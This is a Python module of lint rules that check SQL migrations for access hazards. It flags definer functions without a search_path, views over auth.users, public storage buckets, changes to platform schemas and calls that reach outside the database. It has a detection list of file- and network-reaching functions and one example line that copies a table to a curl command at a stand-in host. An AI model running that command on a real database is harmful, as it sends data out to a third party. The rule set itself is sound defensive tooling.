"""Rules about objects that let people around the checks: definer functions, views, platform schemas, the server."""

from collections.abc import Iterator

from pglast import ast
from pglast.enums import AlterTableType
from pglast.enums import ObjectType

from ops import grammar
from ops.access_finding import PLATFORM_SCHEMAS
from ops.grammar import names
from ops.hazards.access import EXPOSED
from ops.hazards.acts import constant
from ops.hazards.acts import created_relation
from ops.hazards.conditions import is_always_true
from ops.hazards.model import Act
from ops.hazards.model import Found
from ops.hazards.model import HazardClass
from ops.hazards.model import Level
from ops.hazards.model import rule
from ops.hazards.pending import Name
from ops.hazards.pending import Pending
from ops.hazards.pending import fixes_search_path
from ops.hazards.pending import part_of
from ops.masking import printable

# Tables of the platform that projects are meant to put policies and triggers on.
_OPEN_TABLES = {
    Name("storage", "objects"),
    Name("storage", "buckets"),
    Name("realtime", "messages"),
    Name("auth", "users"),
}
_KEEPS_ROWS = {"auth", "vault", "supabase_migrations"}
_OF_TABLE = (ObjectType.OBJECT_POLICY, ObjectType.OBJECT_TRIGGER, ObjectType.OBJECT_RULE)


@rule(
    "definer-without-search-path",
    HazardClass.ACCESS,
    Level.CAUTION,
    on=(ast.CreateFunctionStmt, ast.AlterFunctionStmt),
    caught="create function f() returns int language sql security definer as 'select 1';",
    left_alone="create function f() returns int language sql security definer set search_path = '' as 'select 1';",
    safe_way="Add SET search_path = '' and write every name with its schema.",
)
def definer_without_search_path(act: Act, pending: Pending) -> Iterator[str | Found]:
    """It runs as its owner, and whoever calls it chooses which tables its names mean."""
    elements = act.node.actions if isinstance(act.node, ast.AlterFunctionStmt) else act.node.options
    parts = act.node.func if isinstance(act.node, ast.AlterFunctionStmt) else act.node.funcname
    name = pending.name_of_parts(names(parts))
    is_definer = grammar.options(elements).get("security") is True
    if is_definer and not fixes_search_path(elements) and name not in pending.fixed_paths:
        yield Found(f"Function {name} runs as its owner without a search_path of its own.", relation=str(name))


_HIDDEN = {"auth", "vault"}


@rule(
    "view-over-auth-users",
    HazardClass.ACCESS,
    Level.DANGER,
    on=(ast.ViewStmt, ast.CreateTableAsStmt),
    caught="create view members as select id, email from auth.users;",
    left_alone="create view members with (security_invoker = true) as select id from profiles;",
    safe_way="Copy the few columns that are needed into a table of your own, by a trigger.",
)
def view_over_auth_users(act: Act, pending: Pending) -> Iterator[str | Found]:
    """What stands in auth or vault (addresses, sessions, secrets), shown to everybody who may read the view. A caution
    in a schema that the Data API does not serve."""
    relation = created_relation(act.node)
    name = pending.name(relation)
    for node in grammar.walk(act.node.query):
        if isinstance(node, ast.RangeVar) and node.schemaname in _HIDDEN:
            hidden = printable(f"{node.schemaname}.{node.relname}")
            message = f"View or table {name} shows rows of {hidden}."
            yield Found(message, level=None if name.schema in EXPOSED else Level.CAUTION, relation=str(name))
            return


@rule(
    "view-runs-as-owner",
    HazardClass.ACCESS,
    Level.CAUTION,
    on=(ast.ViewStmt, ast.AlterTableStmt),
    caught="create view open_orders as select * from orders;",
    left_alone="create view open_orders with (security_invoker = on) as select * from orders;",
    safe_way="Add WITH (security_invoker = true).",
)
def view_runs_as_owner(act: Act, pending: Pending) -> Iterator[str | Found]:
    """Such a view passes the row-level security of its tables. CREATE OR REPLACE takes the option away as well."""
    if isinstance(act.node, ast.AlterTableStmt):
        yield from _no_longer_invoker(act, pending)
        return
    name = pending.name(act.node.view)
    invoker = grammar.options(act.node.options).get("security_invoker", False) or name in pending.invoker_views
    if name.schema in EXPOSED and act.node.view.relpersistence != "t" and not invoker:
        yield Found(f"View {name} reads with its owner's rights, past row-level security.", relation=str(name))


def _no_longer_invoker(act: Act, pending: Pending) -> Iterator[str]:
    for command in act.node.cmds or () if act.node.objtype == ObjectType.OBJECT_VIEW else ():
        chosen = grammar.options(command.def_) if isinstance(command.def_, tuple) else {}
        taken = command.subtype == AlterTableType.AT_ResetRelOptions and "security_invoker" in chosen
        if taken or (command.subtype == AlterTableType.AT_SetRelOptions and chosen.get("security_invoker") is False):
            yield f"View {pending.name(act.node.relation)} reads with its owner's rights, past row-level security."


@rule(
    "materialized-view-exposed",
    HazardClass.ACCESS,
    Level.CAUTION,
    on=(ast.CreateTableAsStmt,),
    caught="create materialized view sales_by_day as select 1 as total;",
    left_alone=(
        "create materialized view sales_by_day as select 1 as total; revoke all on sales_by_day from anon, authenticated;"
    ),
    safe_way="Make it in a schema that the Data API does not serve, or revoke its rights from anon and authenticated.",
)
def materialized_view_exposed(act: Act, pending: Pending) -> Iterator[str | Found]:
    """Row-level security cannot protect its rows."""
    if act.node.objtype == ObjectType.OBJECT_MATVIEW:
        name = pending.name(created_relation(act.node))
        if name.schema in EXPOSED and name not in pending.revoked:
            message = (
                f"The anon key reads all rows of materialized view {name}; row-level security cannot protect them."
            )
            yield Found(message, relation=str(name))


@rule(
    "foreign-table-exposed",
    HazardClass.ACCESS,
    Level.DANGER,
    on=(ast.CreateForeignTableStmt,),
    caught="create foreign table customers (id text) server stripe_server;",
    left_alone="create foreign table stripe.customers (id text) server stripe_server;",
    safe_way="Make it in a schema that the Data API does not serve, and read it by a function of your own.",
)
def foreign_table_exposed(act: Act, pending: Pending) -> Iterator[str | Found]:
    """Row-level security cannot protect what another server holds."""
    name = pending.name(created_relation(act.node))
    if name.schema in EXPOSED and name not in pending.revoked:
        message = f"The anon key reads foreign table {name}; row-level security cannot protect it."
        yield Found(message, relation=str(name))


@rule(
    "public-bucket",
    HazardClass.ACCESS,
    Level.CAUTION,
    on=(ast.InsertStmt, ast.UpdateStmt),
    caught="insert into storage.buckets (id, name, public) values ('scans', 'scans', true);",
    left_alone="insert into storage.buckets (id, name, public) values ('scans', 'scans', false);",
    safe_way="Keep the bucket private, and write a policy on storage.objects or hand out signed URLs.",
)
def public_bucket(act: Act, pending: Pending) -> Iterator[str | Found]:
    """Everybody who has a file's address reads it, whatever the policies say."""
    node = act.node
    if pending.name(node.relation) != Name("storage", "buckets"):
        return
    if isinstance(node, ast.UpdateStmt):
        values = [target.val for target in node.targetList or () if target.name == "public"]
        if any(is_always_true(value) for value in values):
            yield "Opens files of storage.buckets to everybody."
        return
    columns = [target.name for target in node.cols or ()]
    rows = node.selectStmt.valuesLists if isinstance(node.selectStmt, ast.SelectStmt) else None
    for row in rows or ():
        given = dict(zip(columns, row, strict=False))
        if "public" in given and is_always_true(given["public"]):
            bucket = constant(given.get("id")) or constant(given.get("name")) or ""
            yield f"Opens the files of bucket {printable(bucket)} to everybody."


@rule(
    "platform-schema",
    HazardClass.ACCESS,
    Level.DANGER,
    on=(
        *(ast.AlterTableStmt, ast.CreateStmt, ast.CreateTableAsStmt, ast.ViewStmt, ast.IndexStmt, ast.RenameStmt),
        *(ast.CreateFunctionStmt, ast.DropStmt, ast.CreateTrigStmt, ast.CreatePolicyStmt, ast.AlterPolicyStmt),
        *(ast.TruncateStmt, ast.InsertStmt, ast.UpdateStmt, ast.DeleteStmt, ast.MergeStmt, ast.RuleStmt),
        ast.GrantStmt,
    ),
    caught="alter table auth.users add column nickname text;",
    left_alone="create policy own on storage.objects for select using (owner = auth.uid());",
    safe_way="Keep to your own schemas; refer to the platform's tables by foreign keys and triggers.",
)
def platform_schema(act: Act, pending: Pending) -> Iterator[str | Found]:
    """The platform changes these schemas by itself, and its upgrades expect them as it left them."""
    node = act.node
    if isinstance(node, ast.GrantStmt):
        yield from _opens_hidden(node, pending)
        return
    changes_rows = isinstance(node, ast.InsertStmt | ast.UpdateStmt | ast.DeleteStmt | ast.MergeStmt | ast.TruncateStmt)
    is_usual = isinstance(node, ast.CreatePolicyStmt | ast.AlterPolicyStmt | ast.CreateTrigStmt | ast.AlterTableStmt)
    for name in _touched(node, pending):
        if name.schema not in (_KEEPS_ROWS if changes_rows else PLATFORM_SCHEMAS):
            continue
        on_open_table = name in _OPEN_TABLES and not changes_rows
        if on_open_table and isinstance(node, ast.CreatePolicyStmt) and name.schema != "auth":
            continue
        if _is_callback(node, name, pending) or _is_made_anew(node, pending):
            continue
        level = Level.CAUTION if on_open_table and (is_usual or _drops_of_table(node)) else None
        if _adds_or_drops_columns(node):
            level = None
        yield Found(f"Changes {name}, which is the platform's.", level=level, relation=str(name))


def _opens_hidden(node: ast.GrantStmt, pending: Pending) -> Iterator[str]:
    """Rights on what stands in auth or vault, for others than the one who migrates."""
    to = [printable(role.rolename or "PUBLIC") for role in node.grantees or () if role.rolename != "postgres"]
    hidden = [
        printable(f"{name.schema}.{name.name}".rstrip(".")) for name in pending.granted(node) if name.schema in _HIDDEN
    ]
    if node.is_grant and to and hidden and node.objtype != ObjectType.OBJECT_FUNCTION:
        yield f"Gives {', '.join(to[:3])} rights on {', '.join(hidden[:3])}, which is the platform's."


def _is_callback(node: ast.Node, name: Name, pending: Pending) -> bool:
    """A trigger on auth.users that calls a function of the project's own, which is how profiles are made."""
    if not isinstance(node, ast.CreateTrigStmt) or name != Name("auth", "users"):
        return False
    return pending.name_of_parts(names(node.funcname)).schema not in PLATFORM_SCHEMAS


def _is_made_anew(node: ast.Node, pending: Pending) -> bool:
    """DROP POLICY or DROP TRIGGER on a table of the platform, and the pending files make it again."""
    if not isinstance(node, ast.DropStmt) or node.removeType not in _OF_TABLE:
        return False
    kind = {ObjectType.OBJECT_POLICY: "policy", ObjectType.OBJECT_TRIGGER: "trigger"}.get(node.removeType, "")
    parts = [names(each) for each in node.objects or ()]
    return all(pending.is_made_again(kind, part_of(pending.name_of_parts(each[:-1]), each[-1])) for each in parts)


def _adds_or_drops_columns(node: ast.Node) -> bool:
    return isinstance(node, ast.AlterTableStmt) and any(
        isinstance(command.def_, ast.ColumnDef) or command.name for command in node.cmds or ()
    )


def _drops_of_table(node: ast.Node) -> bool:
    return isinstance(node, ast.DropStmt) and node.removeType in _OF_TABLE


def _touched(node: ast.Node, pending: Pending) -> Iterator[Name]:
    """The objects with a schema that a statement changes."""
    if isinstance(node, ast.DropStmt):
        for parts in node.objects or ():
            listed = names(parts)
            listed = listed[:-1] if node.removeType in _OF_TABLE else listed
            schema = Name(listed[-1], "") if node.removeType == ObjectType.OBJECT_SCHEMA and listed else None
            if listed:
                yield schema or pending.name_of_parts(listed)
    elif isinstance(node, ast.CreateFunctionStmt):
        yield pending.name_of_parts(names(node.funcname))
    elif isinstance(node, ast.TruncateStmt):
        yield from (pending.name(relation) for relation in node.relations or ())
    else:
        relation = created_relation(node) or getattr(node, "relation", None) or getattr(node, "table", None)
        if isinstance(relation, ast.RangeVar):
            yield pending.name(relation)


_REACHING_EXTENSIONS = {"plpython3u", "plperlu", "pltclu", "file_fdw", "dblink", "adminpack", "http"}
_REACHING_FUNCTIONS = {"pg_read_file", "pg_read_binary_file", "pg_ls_dir", "lo_import", "lo_export"} | {
    *("dblink", "dblink_exec", "dblink_connect", "http_get", "http_post", "http_put", "http_delete")
}


@rule(
    "reaches-outside",
    HazardClass.ACCESS,
    Level.DANGER,
    on=(ast.CopyStmt, ast.CreateExtensionStmt, ast.AlterSystemStmt, ast.SelectStmt, ast.LoadStmt),
    caught="copy orders to program 'curl https://collector.example';",
    left_alone="create extension if not exists pgcrypto;",
    safe_way="Do it outside migrations, where it is seen; a migration changes this database alone.",
)
def reaches_outside(act: Act, pending: Pending) -> Iterator[str | Found]:
    """Files and programs of the server, its settings, other databases, the network."""
    node = act.node
    if isinstance(node, ast.CopyStmt):
        if node.filename is not None:
            yield "Runs a program on the server." if node.is_program else "Reads or writes a file of the server."
    elif isinstance(node, ast.CreateExtensionStmt):
        if node.extname in _REACHING_EXTENSIONS:
            yield f"Extension {printable(node.extname)} reaches beyond this database."
    elif isinstance(node, ast.SelectStmt):
        yield from (f"Calls {called}, which reaches beyond this database." for called in _reaching_calls(node))
    else:
        yield "Changes the server itself."


def _reaching_calls(node: ast.SelectStmt) -> list[str]:
    called = set()
    for each in grammar.walk(node):
        if isinstance(each, ast.FuncCall):
            schema, name = ["", *names(each.funcname)][-2:]
            if name in _REACHING_FUNCTIONS or (schema == "net" and name.startswith("http_")):
                called.add(printable(f"{schema}.{name}".lstrip(".")))
    return sorted(called)
